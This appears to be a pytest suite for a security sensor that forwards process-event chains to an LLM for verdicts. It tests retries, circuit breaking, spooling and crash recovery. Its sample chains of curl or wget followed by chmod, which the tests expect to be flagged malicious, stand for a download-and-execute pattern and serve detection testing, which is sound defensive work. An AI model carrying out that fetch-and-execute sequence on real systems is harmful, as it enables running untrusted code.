    GARBAGE,
    HTTP_429,
    HTTP_500,
    OK,
    TIMEOUT,
    TRUNCATED,
    Fault,
    FaultPlan,
    FaultTransport,
    FaultyBrainServer,
)
from chronos_trn.utils.metrics import GLOBAL as METRICS
from chronos_trn.utils.metrics import Metrics

_NOSLEEP = lambda s: None  # noqa: E731


def _cfg(**kw):
    """Sensor config tuned for fast deterministic tests."""
    defaults = dict(
        server_url="http://brain.test/api/generate",
        http_timeout_s=1.0,
        retry_max_attempts=3,
        retry_backoff_base_s=0.001,
        retry_backoff_cap_s=0.002,
        breaker_failure_threshold=3,
        breaker_open_duration_s=0.05,
        spool_drain_interval_s=0,  # drain manually in tests
    )
    defaults.update(kw)
    return SensorConfig(**defaults)


def _client(plan, cfg=None, breaker=None):
    cfg = cfg or _cfg()
    transport = FaultTransport(plan, sleep=_NOSLEEP)
    client = AnalysisClient(
        cfg,
        transport=transport,
        breaker=breaker
        or CircuitBreaker(
            cfg.breaker_failure_threshold,
            cfg.breaker_open_duration_s,
            metrics=Metrics(),
        ),
        sleep=_NOSLEEP,
    )
    return client, transport


_CHAIN = ["[EXEC] bash -> /usr/bin/curl", "[EXEC] bash -> /usr/bin/chmod"]


def _delta(before, name):
    return METRICS.snapshot().get(name, 0) - before.get(name, 0)


# ---------------------------------------------------------------------------
# retry / classification (fault transport below the client)
# ---------------------------------------------------------------------------
def test_retry_then_success():
    before = METRICS.snapshot()
    client, transport = _client(FaultPlan([Fault(TIMEOUT)]))
    verdict = client.analyze(_CHAIN)
    assert verdict["verdict"] == "MALICIOUS" and verdict["risk_score"] >= 8
    assert transport.calls == [TIMEOUT, OK]
    assert _delta(before, "sensor_retry_attempts") == 1


@pytest.mark.parametrize(
    "fault,expected",
    [
        (Fault(CONNECT_REFUSED), FAIL_TRANSPORT),
        (Fault(TIMEOUT), FAIL_TRANSPORT),
        (Fault(HTTP_500), FAIL_SERVER),
        (Fault(HTTP_500, status=503), FAIL_SERVER),
        (Fault(HTTP_429), FAIL_OVERLOAD),
        (Fault(HTTP_500, status=404), FAIL_HTTP),
        (Fault(GARBAGE), FAIL_MALFORMED),
        (Fault(TRUNCATED), FAIL_MALFORMED),
    ],
)
def test_failure_classification(fault, expected):
    client, _ = _client(
        FaultPlan(default=fault), cfg=_cfg(retry_max_attempts=1)
    )
    verdict = client.analyze(_CHAIN)
    assert verdict["verdict"] == "ERROR" and verdict["risk_score"] == 0
    assert verdict["_failure"] == expected
    # cascade provenance is total: even the fail-open verdict says what
    # produced it, so consumers never see a tierless verdict alongside
    # the fleet's tagged ones
    assert verdict["model_tier"] == "heuristic"
    assert verdict["source"] == "sensor_fail_open"


def test_4xx_does_not_retry():
    """A deterministic client error must break the retry loop."""
    client, transport = _client(
        FaultPlan([Fault(HTTP_500, status=404)], default=Fault(OK))
    )
    verdict = client.analyze(_CHAIN)
    assert verdict["_failure"] == FAIL_HTTP
    assert transport.calls == [HTTP_500]  # single attempt; OK never reached


def test_429_retry_after_floors_backoff():
    sleeps = []
    cfg = _cfg()
    transport = FaultTransport(
        FaultPlan([Fault(HTTP_429, retry_after_s=5.0)]), sleep=_NOSLEEP
    )
    client = AnalysisClient(
        cfg, transport=transport,
        breaker=CircuitBreaker(99, 1.0, metrics=Metrics()),
        sleep=sleeps.append,
    )
    verdict = client.analyze(_CHAIN)
    assert verdict["verdict"] != "ERROR"
    assert sleeps and max(sleeps) >= 5.0  # Retry-After won over the tiny cap


def test_malformed_verdict_counts():
    before = METRICS.snapshot()
    client, _ = _client(
        FaultPlan(default=Fault(GARBAGE)), cfg=_cfg(retry_max_attempts=2)
    )
    client.analyze(_CHAIN)
    assert _delta(before, "sensor_malformed_verdicts") == 2


# ---------------------------------------------------------------------------
# circuit breaker
# ---------------------------------------------------------------------------
class FakeClock:
    def __init__(self):
        self.t = 0.0

    def __call__(self):
        return self.t

    def advance(self, s):
        self.t += s


def test_breaker_open_halfopen_closed_cycle():
    clk, m = FakeClock(), Metrics()
    br = CircuitBreaker(2, 10.0, clock=clk, name="t_br", metrics=m)
    assert br.state == br.CLOSED and br.allow()
    br.record_failure()
    br.record_failure()
    assert br.state == br.OPEN and m.get_gauge("t_br_state") == 2
    assert not br.allow()  # open window not elapsed
    clk.advance(10.0)
    assert br.allow()  # half-open: one probe admitted
    assert br.state == br.HALF_OPEN and m.get_gauge("t_br_state") == 1
    assert not br.allow()  # second probe rejected while first in flight
    br.record_success()
    assert br.state == br.CLOSED and m.get_gauge("t_br_state") == 0
    assert br.allow()
    snap = m.snapshot()
    assert snap["t_br_open_total"] == 1
    assert snap["t_br_half_open_total"] == 1
    assert snap["t_br_closed_total"] == 1


def test_breaker_probe_failure_reopens():
    clk = FakeClock()
    br = CircuitBreaker(1, 5.0, clock=clk, name="t_br2", metrics=Metrics())
    br.record_failure()
    assert br.state == br.OPEN
    clk.advance(5.0)
    assert br.allow()
    br.record_failure()  # probe failed -> straight back to open
    assert br.state == br.OPEN and not br.allow()
    clk.advance(5.0)
    assert br.allow()  # a fresh open window elapses -> probe again


def test_breaker_fast_fails_without_touching_wire():
    before = METRICS.snapshot()
    cfg = _cfg(breaker_failure_threshold=1, retry_max_attempts=1)
    breaker = CircuitBreaker(1, 999.0, metrics=Metrics())
    client, transport = _client(
        FaultPlan(default=Fault(CONNECT_REFUSED)), cfg=cfg, breaker=breaker
    )
    assert client.analyze(_CHAIN)["_failure"] == FAIL_TRANSPORT
    assert breaker.state == breaker.OPEN
    verdict = client.analyze(_CHAIN)
    assert verdict["_failure"] == FAIL_BREAKER
    assert len(transport.calls) == 1  # second analyze never hit the wire
    assert _delta(before, "sensor_breaker_fast_fails") == 1


# ---------------------------------------------------------------------------
# chain spool
# ---------------------------------------------------------------------------
def test_spool_drop_oldest_accounting():
    m = Metrics()
    spool = ChainSpool(max_chains=2, metrics=m)
    spool.put(1, ["a"])
    spool.put(2, ["b"])
    spool.put(3, ["c"])
    assert len(spool) == 2
    assert [c.key for c in spool.snapshot()] == [2, 3]  # oldest dropped
    snap = m.snapshot()
    assert snap["sensor_spool_enqueued"] == 3
    assert snap["sensor_spool_dropped"] == 1
    assert m.get_gauge("sensor_spool_depth") == 2


def test_spool_remove_is_identity_based():
    spool = ChainSpool(max_chains=4, metrics=Metrics())
    a = spool.put(1, ["a"])
    spool.put(1, ["a"])  # same key+history, distinct entry
    assert spool.remove(a) and len(spool) == 1
    assert not spool.remove(a)  # already gone


# ---------------------------------------------------------------------------
# fault plan / harness
# ---------------------------------------------------------------------------
def test_fault_plan_parse_spec():
    plan = FaultPlan.parse(
        "timeout*3,http_500:status=503,http_429:retry_after=0.5,ok"
    )
    kinds = [plan.next_fault() for _ in range(6)]
    assert [f.kind for f in kinds] == [
        TIMEOUT, TIMEOUT, TIMEOUT, HTTP_500, HTTP_429, OK,
    ]
    assert kinds[3].status == 503
    assert kinds[4].retry_after_s == 0.5
    assert plan.next_fault().kind == OK  # exhausted script -> default


def test_fault_plan_default_flip_simulates_recovery():
    plan = FaultPlan(default=Fault(CONNECT_REFUSED))
    assert plan.next_fault().kind == CONNECT_REFUSED
    plan.default = Fault(OK)
    assert plan.next_fault().kind == OK
    assert plan.consumed == [CONNECT_REFUSED, OK]


# ---------------------------------------------------------------------------
# monitor + spool integration
# ---------------------------------------------------------------------------
def _trigger_chain(mon, pid):
    mon.on_event(Event(pid, "bash", "/usr/bin/curl", EXEC))
    mon.on_event(Event(pid, "bash", "/usr/bin/chmod", EXEC))


def _outage_monitor(cfg=None, **kw):
    cfg = cfg or _cfg(breaker_failure_threshold=2, breaker_open_duration_s=0.0)
    plan = FaultPlan(default=Fault(CONNECT_REFUSED))
    transport = FaultTransport(plan, sleep=_NOSLEEP)
    client = AnalysisClient(
        cfg, transport=transport,
        breaker=CircuitBreaker(
            cfg.breaker_failure_threshold, cfg.breaker_open_duration_s,
            metrics=Metrics(),
        ),
        sleep=_NOSLEEP,
    )
    mon = KillChainMonitor(cfg, client=client, alert_fn=kw.get("alert_fn", lambda s: None))
    return mon, plan, transport


def test_outage_recovery_zero_lost_chains():
    """ACCEPTANCE: N chains triggered during a full brain outage are all
    spooled and ALL produce genuine (non-ERROR) verdicts after recovery;
    breaker walks open -> half-open -> closed; retry/spool/429 counters
    land in the Prometheus render."""
    before = METRICS.snapshot()
    alerts = []
    mon, plan, transport = _outage_monitor(alert_fn=alerts.append)
    breaker = mon.client.breaker

    # -- outage: every triggered chain degrades to ERROR and spools ------
    n_chains = 5
    for pid in range(100, 100 + n_chains):
        _trigger_chain(mon, pid)
    assert len(mon.spool) == n_chains
    assert all(v["verdict"] == "ERROR" for v in mon.verdicts)
    assert all(key not in mon.memory for key in range(100, 100 + n_chains))
    assert breaker.state == breaker.OPEN
    assert any("DEGRADED" in a for a in alerts)
    # nothing overflowed: zero-loss claim covers the whole outage
    assert _delta(before, "sensor_spool_dropped") == 0

    # -- recovery: one parting 429 (counter coverage), then healthy ------
    plan.extend([Fault(HTTP_429, retry_after_s=0.0)])
    plan.default = Fault(OK)
    replayed = mon.drain_spool()

    assert replayed == n_chains and len(mon.spool) == 0
    genuine = [v for v in mon.verdicts if v["verdict"] != "ERROR"]
    assert len(genuine) == n_chains  # zero lost chains
    assert all(v.get("_replayed") for v in genuine)
    assert all(v["verdict"] == "MALICIOUS" and v["risk_score"] >= 8
               for v in genuine)
    assert breaker.state == breaker.CLOSED
    # breaker walked the full cycle (open_duration=0 -> immediate probe)
    bm = breaker._metrics.snapshot()
    assert bm["sensor_breaker_open_total"] >= 1
    assert bm["sensor_breaker_half_open_total"] >= 1
    assert bm["sensor_breaker_closed_total"] >= 1
    assert breaker._metrics.get_gauge("sensor_breaker_state") == 0

    # -- counters visible on the /metrics surface ------------------------
    assert _delta(before, "sensor_spool_replayed") == n_chains
    assert _delta(before, "sensor_http_429") >= 1
    assert _delta(before, "sensor_retry_attempts") >= 1
    rendered = METRICS.render_prometheus()
    for name in (
        "chronos_sensor_spool_depth",
        "chronos_sensor_spool_enqueued",
        "chronos_sensor_spool_replayed",
        "chronos_sensor_retry_attempts",
        "chronos_sensor_http_429",
        "chronos_sensor_verdicts_error",
    ):
        assert name in rendered, f"{name} missing from /metrics render"


def test_pid_reuse_does_not_misattribute_spooled_chain():
    """A spooled chain whose PID is recycled by a NEW process must replay
    against the snapshot, never against the new process's window."""
    mon, plan, _ = _outage_monitor()
    _trigger_chain(mon, 50)  # outage -> spooled, window flushed
    assert len(mon.spool) == 1 and 50 not in mon.memory
    spooled_history = mon.spool.peek().history

    # PID 50 recycled: unrelated process, one benign event (below
    # min_chain_len so it cannot self-trigger)
    mon.on_event(Event(50, "bash", "/home/user/notes.txt", OPEN))
    new_window = list(mon.memory[50])
    assert new_window == ["[OPEN] bash -> /home/user/notes.txt"]

    plan.default = Fault(OK)
    assert mon.drain_spool() == 1
    verdict = [v for v in mon.verdicts if v["verdict"] != "ERROR"][-1]
    assert verdict["_replayed"] and verdict["_chain_len"] == 2
    # the verdict came from the snapshot (curl+chmod), and the recycled
    # process's window is untouched by the replay
    assert "curl" in " ".join(spooled_history)
    assert mon.memory[50] == new_window


def test_lru_eviction_does_not_touch_spooled_chain():
    """A spooled chain survives its live window being LRU-evicted: the
    snapshot, not the window, is the replay source."""
    mon, plan, _ = _outage_monitor()
    mon.MAX_WINDOWS = 8
    _trigger_chain(mon, 50)  # outage -> spooled (window already flushed)
    assert len(mon.spool) == 1
    # churn far past the LRU bound with benign single-event windows
    for pid in range(1000, 1032):
        mon.on_event(Event(pid, "bash", f"/home/user/f{pid}", OPEN))
    assert len(mon.memory) <= mon.MAX_WINDOWS + 1
    assert len(mon.spool) == 1  # eviction never reaches into the spool
    plan.default = Fault(OK)
    assert mon.drain_spool() == 1
    verdict = [v for v in mon.verdicts if v["verdict"] != "ERROR"][-1]
    assert verdict["_window"] == 50 and verdict["_chain_len"] == 2


def test_nonspoolable_failure_retains_window():
    """Malformed responses are not spooled: the live window survives so
    a later trigger re-analyzes the grown chain."""
    cfg = _cfg(retry_max_attempts=1)
    transport = FaultTransport(FaultPlan(default=Fault(GARBAGE)), sleep=_NOSLEEP)
    client = AnalysisClient(
        cfg, transport=transport,
        breaker=CircuitBreaker(99, 1.0, metrics=Metrics()), sleep=_NOSLEEP,
    )
    mon = KillChainMonitor(cfg, client=client, alert_fn=lambda s: None)
    _trigger_chain(mon, 77)
    assert len(mon.spool) == 0
    assert len(mon.memory[77]) == 2  # retained, not flushed


def test_background_drainer_replays_after_recovery():
    """The daemon drainer empties the spool once the brain heals."""
    cfg = _cfg(
        breaker_failure_threshold=2,
        breaker_open_duration_s=0.0,
        spool_drain_interval_s=0.01,
    )
    plan = FaultPlan(default=Fault(CONNECT_REFUSED))
    transport = FaultTransport(plan, sleep=_NOSLEEP)
    client = AnalysisClient(
        cfg, transport=transport,
        breaker=CircuitBreaker(2, 0.0, metrics=Metrics()), sleep=_NOSLEEP,
    )
    mon = KillChainMonitor(cfg, client=client, alert_fn=lambda s: None)
    try:
        _trigger_chain(mon, 9)
        assert len(mon.spool) == 1
        plan.default = Fault(OK)
        deadline = time.monotonic() + 5.0
        while len(mon.spool) and time.monotonic() < deadline:
            time.sleep(0.01)
        assert len(mon.spool) == 0
        assert any(v.get("_replayed") for v in mon.verdicts)
    finally:
        mon.close()


# ---------------------------------------------------------------------------
# transports
# ---------------------------------------------------------------------------
@pytest.fixture()
def faulty_brain():
    plan = FaultPlan(default=Fault(OK))
    server = FaultyBrainServer(plan).start()
    yield server
    server.stop()


_PAYLOAD = {
    "model": "llama3",
    "prompt": "1. [EXEC] bash -> /usr/bin/curl\n2. [EXEC] bash -> /usr/bin/chmod",
    "stream": False,
    "format": "json",
}

_TRANSPORTS = [UrllibTransport, RequestsTransport]


@pytest.mark.parametrize("transport_cls", _TRANSPORTS)
def test_transport_ok_roundtrip(faulty_brain, transport_cls):
    status, _, body = transport_cls().post_json(
        faulty_brain.url, _PAYLOAD, 5.0
    )
    assert status == 200
    verdict = json.loads(json.loads(body.decode())["response"])
    assert verdict["risk_score"] >= 8


@pytest.mark.parametrize("transport_cls", _TRANSPORTS)
def test_transport_http_status_passthrough(faulty_brain, transport_cls):
    t = transport_cls()
    faulty_brain.plan.extend([
        Fault(HTTP_500), Fault(HTTP_429, retry_after_s=1.5), Fault(GARBAGE),
    ])
    status, _, _ = t.post_json(faulty_brain.url, _PAYLOAD, 5.0)
    assert status == 500
    status, headers, _ = t.post_json(faulty_brain.url, _PAYLOAD, 5.0)
    assert status == 429 and headers.get("Retry-After") == "1.5"
    status, _, body = t.post_json(faulty_brain.url, _PAYLOAD, 5.0)
    assert status == 200
    with pytest.raises(Exception):
        json.loads(body.decode())  # garbage body: parse fails upstream


@pytest.mark.parametrize("transport_cls", _TRANSPORTS)
@pytest.mark.parametrize("kind", [CONNECT_REFUSED, TRUNCATED])
def test_transport_wire_faults_raise_transport_error(
    faulty_brain, transport_cls, kind
):
    faulty_brain.plan.extend([Fault(kind)])
    with pytest.raises(TransportError):
        transport_cls().post_json(faulty_brain.url, _PAYLOAD, 5.0)


def test_connect_refused_real_socket():
    """No listener at all (port 1): both transports raise TransportError,
    which the client classifies as FAIL_TRANSPORT."""
    for t in (UrllibTransport(), RequestsTransport()):
        with pytest.raises(TransportError):
            t.post_json("http://127.0.0.1:1/api/generate", _PAYLOAD, 0.5)


def test_default_transport_selection(monkeypatch):
    monkeypatch.delenv("CHRONOS_FAULTS", raising=False)
    monkeypatch.setenv("CHRONOS_HTTP_TRANSPORT", "urllib")
    assert isinstance(default_transport(), UrllibTransport)
    monkeypatch.setenv("CHRONOS_HTTP_TRANSPORT", "requests")
    assert isinstance(default_transport(), RequestsTransport)
    monkeypatch.setenv("CHRONOS_HTTP_TRANSPORT", "auto")
    assert isinstance(
        default_transport(), (RequestsTransport, UrllibTransport)
    )


def test_default_transport_without_requests(monkeypatch):
    """Air-gapped image: requests missing -> stdlib fallback, and the
    requests transport refuses to construct."""
    monkeypatch.delenv("CHRONOS_FAULTS", raising=False)
    monkeypatch.delenv("CHRONOS_HTTP_TRANSPORT", raising=False)
    monkeypatch.setattr(resilience, "_requests", None)
    assert isinstance(default_transport(), UrllibTransport)
    with pytest.raises(TransportError):
        RequestsTransport()


def test_default_transport_fault_env_wrapper(monkeypatch):
    monkeypatch.setenv("CHRONOS_HTTP_TRANSPORT", "urllib")
    monkeypatch.setenv("CHRONOS_FAULTS", "timeout,ok")
    t = default_transport()
    assert isinstance(t, FaultTransport)
    assert isinstance(t.inner, UrllibTransport)
    assert t.plan.remaining() == 2


def test_urllib_client_end_to_end(faulty_brain):
    """AnalysisClient runs on the stdlib transport alone (no requests)."""
    cfg = _cfg(server_url=faulty_brain.url)
    client = AnalysisClient(
        cfg, transport=UrllibTransport(),
        breaker=CircuitBreaker(99, 1.0, metrics=Metrics()), sleep=_NOSLEEP,
    )
    verdict = client.analyze(_CHAIN)
    assert verdict["verdict"] == "MALICIOUS" and verdict["risk_score"] >= 8


def test_wire_outage_recovery_with_real_transport(faulty_brain):
    """Outage drill over real sockets: wire faults spool the chain, a
    healthy wire drains it."""
    faulty_brain.plan.default = Fault(CONNECT_REFUSED)
    cfg = _cfg(
        server_url=faulty_brain.url,
        retry_max_attempts=2,
        breaker_failure_threshold=2,
        breaker_open_duration_s=0.0,
    )
    client = AnalysisClient(
        cfg, transport=UrllibTransport(),
        breaker=CircuitBreaker(2, 0.0, metrics=Metrics()), sleep=_NOSLEEP,
    )
    mon = KillChainMonitor(cfg, client=client, alert_fn=lambda s: None)
    _trigger_chain(mon, 11)
    assert len(mon.spool) == 1
    faulty_brain.plan.default = Fault(OK)
    assert mon.drain_spool() == 1
    assert [v for v in mon.verdicts if v["verdict"] != "ERROR"]


# ---------------------------------------------------------------------------
# server: admission control, readiness, drain
# ---------------------------------------------------------------------------
class StubBackend:
    """Backend double exposing the admission/readiness surface."""

    def __init__(self):
        self.depth = 0
        self.inflight = 0
        self.is_ready = True
        self.submitted = []

    def queue_depth(self):
        return self.depth

    def inflight_count(self):
        return self.inflight

    def ready(self):
        return self.is_ready

    def submit(self, prompt, options, deadline=None, trace_ctx=None):
        self.submitted.append((prompt, deadline))

        import threading

        class _Req:
            prompt_eval_count = 1
            eval_count = 1
            ttft_s = 0.0
            error = None
            text = '{"risk_score": 0, "verdict": "SAFE", "reason": "stub"}'
            done = threading.Event()
            done.set()  # already finished: the server answers instantly

            def result(self, timeout=None):
                return self.text

            def cancel(self):
                pass

        return _Req()


@pytest.fixture()
def stub_server():
    backend = StubBackend()
    server = ChronosServer(
        backend,
        ServerConfig(
            host="127.0.0.1", port=0, max_queue_depth=4,
            retry_after_s=0.25, request_timeout_s=5.0, drain_timeout_s=0.2,
        ),
    )
    server.start()
    yield server, backend
    server.stop(drain=False)


def _post(server, body=None):
    return UrllibTransport().post_json(
        f"http://127.0.0.1:{server.port}/api/generate",
        body if body is not None else dict(_PAYLOAD),
        5.0,
    )


def _get(server, path):
    import urllib.error
    import urllib.request

    try:
        with urllib.request.urlopen(
            f"http://127.0.0.1:{server.port}{path}", timeout=5.0
        ) as resp:
            return resp.status, resp.read()
    except urllib.error.HTTPError as e:
        return e.code, e.read()


def test_server_sheds_429_with_retry_after(stub_server):
    server, backend = stub_server
    before = METRICS.snapshot()
    backend.depth = 10  # over max_queue_depth=4
    status, headers, _ = _post(server)
    assert status == 429 and headers.get("Retry-After") == "0.25"
    assert backend.submitted == []  # shed before submit
    assert _delta(before, "http_shed_429") == 1

    backend.depth = 0
    status, _, _ = _post(server)
    assert status == 200 and len(backend.submitted) == 1


def test_server_429_spools_chain_at_sensor(stub_server):
    """End-to-end 429 semantics: the sensor classifies the shed as
    overload and spools instead of dropping."""
    server, backend = stub_server
    backend.depth = 10
    cfg = _cfg(
        server_url=f"http://127.0.0.1:{server.port}/api/generate",
        retry_max_attempts=1,
    )
    client = AnalysisClient(
        cfg, transport=UrllibTransport(),
        breaker=CircuitBreaker(99, 1.0, metrics=Metrics()), sleep=_NOSLEEP,
    )
    mon = KillChainMonitor(cfg, client=client, alert_fn=lambda s: None)
    _trigger_chain(mon, 31)
    assert len(mon.spool) == 1
    assert mon.verdicts[-1]["_failure"] == FAIL_OVERLOAD


def test_healthz_liveness_vs_readiness(stub_server):
    server, backend = stub_server
    status, body = _get(server, "/healthz")
    assert status == 200 and json.loads(body)["alive"] is True

    backend.is_ready = False  # warming
    status, body = _get(server, "/healthz/ready")
    obj = json.loads(body)
    assert status == 503 and obj == {"ready": False, "reason": "warming"}
    # liveness stays green while warming (no restart flap)
    assert _get(server, "/healthz")[0] == 200

    backend.is_ready = True
    status, body = _get(server, "/healthz/ready")
    assert status == 200 and json.loads(body)["ready"] is True


def test_drain_rejects_new_work_keeps_health(stub_server):
    server, backend = stub_server
    server.begin_drain()
    status, headers, _ = _post(server)
    assert status == 503 and headers.get("Retry-After") == "0.25"
    assert backend.submitted == []
    assert _get(server, "/healthz")[0] == 200  # liveness unaffected
    status, body = _get(server, "/healthz/ready")
    assert status == 503 and json.loads(body)["reason"] == "draining"
    # metrics endpoint keeps answering during drain
    assert _get(server, "/metrics")[0] == 200


def test_graceful_stop_waits_for_inflight():
    backend = StubBackend()
    backend.inflight = 1
    server = ChronosServer(
        backend,
        ServerConfig(host="127.0.0.1", port=0, drain_timeout_s=0.3),
    )
    server.start()
    t0 = time.monotonic()
    server.stop(drain=True)  # inflight never empties -> waits the budget
    assert time.monotonic() - t0 >= 0.25
    assert server.draining


def test_sensor_spools_on_draining_server(stub_server):
    """A 503 from a draining brain is a retryable server failure."""
    server, _ = stub_server
    server.begin_drain()
    cfg = _cfg(
        server_url=f"http://127.0.0.1:{server.port}/api/generate",
        retry_max_attempts=1,
    )
    client = AnalysisClient(
        cfg, transport=UrllibTransport(),
        breaker=CircuitBreaker(99, 1.0, metrics=Metrics()), sleep=_NOSLEEP,
    )
    verdict = client.analyze(_CHAIN)
    assert verdict["_failure"] == FAIL_SERVER


# ---------------------------------------------------------------------------
# scheduler deadlines (tiny model on CPU)
# ---------------------------------------------------------------------------
@pytest.fixture(scope="module")
def tiny_scheduler():
    from chronos_trn.core import model
    from chronos_trn.serving.engine import InferenceEngine
    from chronos_trn.serving.scheduler import Scheduler
    from chronos_trn.tokenizer.bpe import ByteTokenizer

    mcfg = ModelConfig.tiny()
    ccfg = CacheConfig(page_size=8, num_pages=64, max_pages_per_seq=8)
    ecfg = EngineConfig(
        max_batch_slots=2, prefill_buckets=(16, 32), max_new_tokens=8,
        stream_delta_timeout_s=30.0,
    )
    params = model.init_params(mcfg, jax.random.PRNGKey(0))
    sched = Scheduler(InferenceEngine(params, mcfg, ccfg, ecfg), ByteTokenizer(vocab_size=mcfg.vocab_size), ecfg)
    sched.start()
    yield sched
    sched.stop()


def test_expired_deadline_dropped_before_prefill(tiny_scheduler):
    from chronos_trn.serving.scheduler import GenOptions

    before = METRICS.snapshot()
    req = tiny_scheduler.submit(
        "too late", GenOptions(max_new_tokens=4),
        deadline=time.monotonic() - 1.0,
    )
    with pytest.raises(RuntimeError, match="deadline exceeded"):
        req.result(timeout=30)
    assert req.prompt_eval_count == 0  # never prefilled
    assert _delta(before, "requests_deadline_expired") == 1


def test_live_deadline_completes_and_stamps_timeouts(tiny_scheduler):
    from chronos_trn.serving.scheduler import GenOptions

    req = tiny_scheduler.submit(
        "plenty of time", GenOptions(max_new_tokens=4),
        deadline=time.monotonic() + 60.0,
    )
    assert isinstance(req.result(timeout=60), str)
    # config-driven stream timeout replaced the old magic 300 default
    assert req.delta_timeout_s == 30.0


def test_scheduler_warmed_flag(tiny_scheduler):
    """warmup() flips the readiness signal /healthz/ready consumes."""
    tiny_scheduler.warmup()
    assert tiny_scheduler.warmed is True


# ---------------------------------------------------------------------------
# WAL-backed durability (cfg.wal_dir): crash-safe spool + window checkpoints
# ---------------------------------------------------------------------------
def _wal_monitor(tmp_path, plan_default, **cfg_kw):
    cfg = _cfg(
        breaker_failure_threshold=2,
        breaker_open_duration_s=0.0,
        wal_dir=str(tmp_path / "wal"),
        **cfg_kw,
    )
    plan = FaultPlan(default=plan_default)
    transport = FaultTransport(plan, sleep=_NOSLEEP)
    client = AnalysisClient(
        cfg, transport=transport,
        breaker=CircuitBreaker(
            cfg.breaker_failure_threshold, cfg.breaker_open_duration_s,
            metrics=Metrics(),
        ),
        sleep=_NOSLEEP,
    )
    mon = KillChainMonitor(cfg, client=client, alert_fn=lambda s: None)
    return mon, plan


def test_wal_restart_restores_spool_with_original_trace_id():
    """ACCEPTANCE (ISSUE PR 17): chains spooled during an outage survive
    a sensor death — a fresh monitor over the same wal_dir restores them
    and the drained verdicts reuse each chain's ORIGINAL trace_id, so
    the trace spans the crash."""
    import tempfile
    from pathlib import Path

    tmp_path = Path(tempfile.mkdtemp(prefix="chronos-waltest-"))
    mon, _ = _wal_monitor(tmp_path, Fault(CONNECT_REFUSED))
    # distinct histories: identical chains share a chain_key and replay
    # would (correctly) dedup them into one
    mon.on_event(Event(100, "bash", "/usr/bin/curl", EXEC))
    mon.on_event(Event(100, "bash", "/usr/bin/chmod", EXEC))
    mon.on_event(Event(101, "bash", "/usr/bin/wget", EXEC))
    mon.on_event(Event(101, "bash", "/usr/bin/chmod", EXEC))
    assert len(mon.spool) == 2
    original_ids = [v["_trace_id"] for v in mon.verdicts
                    if v["verdict"] == "ERROR"]
    assert len(original_ids) == 2 and all(original_ids)
    # simulate death: no graceful drain, no spool handoff — the disk is
    # the only survivor (close only stops the drainer thread)
    mon.close(final_checkpoint=False)

    mon2, plan2 = _wal_monitor(tmp_path, Fault(OK))
    assert mon2.spool.restored_chains == 2
    assert len(mon2.spool) == 2
    restored_ids = [item.trace_id for item in mon2.spool.snapshot()]
    assert sorted(restored_ids) == sorted(original_ids)
    assert mon2.drain_spool() == 2
    genuine = [v for v in mon2.verdicts if v["verdict"] != "ERROR"]
    assert len(genuine) == 2
    assert all(v.get("_replayed") for v in genuine)
    # the resend continued the trace the chain was first analyzed under
    assert sorted(v["_trace_id"] for v in genuine) == sorted(original_ids)
    mon2.close()

    # third generation: verdicted tombstones hold — nothing resurrects
    mon3, _ = _wal_monitor(tmp_path, Fault(OK))
    assert len(mon3.spool) == 0 and mon3.spool.restored_chains == 0
    mon3.close()


def test_wal_checkpoint_restores_partial_windows():
    """A sub-trigger window (events below min_chain_len) survives a
    restart via the periodic checkpoint: the restored prefix completes
    into a verdict from events that arrive after the restart."""
    import tempfile
    from pathlib import Path

    before = METRICS.snapshot()
    tmp_path = Path(tempfile.mkdtemp(prefix="chronos-waltest-"))
    mon, _ = _wal_monitor(
        tmp_path, Fault(OK),
        checkpoint_interval_events=1, checkpoint_min_interval_s=0.0,
    )
    mon.on_event(Event(55, "bash", "/usr/bin/curl", EXEC))  # 1 < min_chain_len
    assert len(mon.spool) == 0 and list(mon.memory[55])
    mon.close()  # parting checkpoint is durable

    mon2, _ = _wal_monitor(tmp_path, Fault(OK))
    assert mon2.memory[55] == ["[EXEC] bash -> /usr/bin/curl"]
    assert _delta(before, "sensor_windows_restored") >= 1
    # the restored prefix + one more suspicious event completes a chain
    mon2.on_event(Event(55, "bash", "/usr/bin/chmod", EXEC))
    genuine = [v for v in mon2.verdicts if v["verdict"] != "ERROR"]
    assert genuine and genuine[-1]["_chain_len"] == 2
    mon2.close()


def test_wal_checkpoint_time_floor_limits_cadence():
    """checkpoint_min_interval_s floors the checkpoint tax: with a high
    floor, event-count cadence alone must NOT rewrite the snapshot."""
    import os
    import tempfile
    from pathlib import Path

    tmp_path = Path(tempfile.mkdtemp(prefix="chronos-waltest-"))
    mon, _ = _wal_monitor(
        tmp_path, Fault(OK),
        checkpoint_interval_events=1, checkpoint_min_interval_s=3600.0,
    )
    ckpt = os.path.join(mon.cfg.wal_dir, "windows.json")
    for pid in range(200, 210):
        mon.on_event(Event(pid, "bash", f"/home/user/f{pid}", OPEN))
    assert not os.path.exists(ckpt)  # floor held: no mid-run checkpoint
    mon.close()  # the parting checkpoint ignores the floor
    assert os.path.exists(ckpt)


def test_wal_spool_byte_bound_drops_oldest_with_tombstone():
    """The WAL-backed spool's byte bound evicts oldest-first, logs the
    shed chain, and tombstones it so a restart cannot resurrect it."""
    import tempfile

    from chronos_trn.utils.journal import Journal

    wal_dir = tempfile.mkdtemp(prefix="chronos-waltest-")
    m = Metrics()
    journal = Journal(wal_dir, metrics=Metrics())
    spool = ChainSpool(max_chains=64, metrics=m, journal=journal,
                       max_bytes=250)  # two ~112-byte chains fit, not three
    spool.put(1, ["[EXEC] a -> " + "x" * 100])
    spool.put(2, ["[EXEC] b -> " + "y" * 100])
    spool.put(3, ["[EXEC] c -> " + "z" * 100])  # pushes bytes over 250
    assert [c.key for c in spool.snapshot()] == [2, 3]
    assert m.snapshot()["sensor_spool_dropped"] == 1
    journal.close()

    j2 = Journal(wal_dir, metrics=Metrics())
    spool2 = ChainSpool(max_chains=64, metrics=Metrics(), journal=j2,
                        max_bytes=250)
    assert [c.key for c in spool2.snapshot()] == [2, 3]  # 1 stayed dead
    j2.close()
