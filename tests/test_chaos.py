"""Fleet survival drills: degradation ladder, tail tolerance, chaos.

Three layers, mirroring PR 10's subsystem split:

* unit — the degrade primitives (ladder hysteresis/dwell/dead-band,
  retry-budget token bucket, gray-failure latency scoreboard, pressure
  signal) against fake clocks and private registries: no servers, no
  sleeps;
* router — hedging, deadline propagation, and the degraded-verdict
  fallback against a real small fleet;
* drills — deterministic seeded chaos (the ``chaos`` marker's tier-1
  subset): the acceptance drill (one killed + one gray replica under
  load, zero lost chains, gray ejected by latency scoring with its
  breaker still closed) and the blackout drill (degraded verdicts
  tagged and counted, burn-rate alert fires and resolves), plus the
  slow-marked 50-seed sweep.
"""
import json
import time
import urllib.request

import pytest

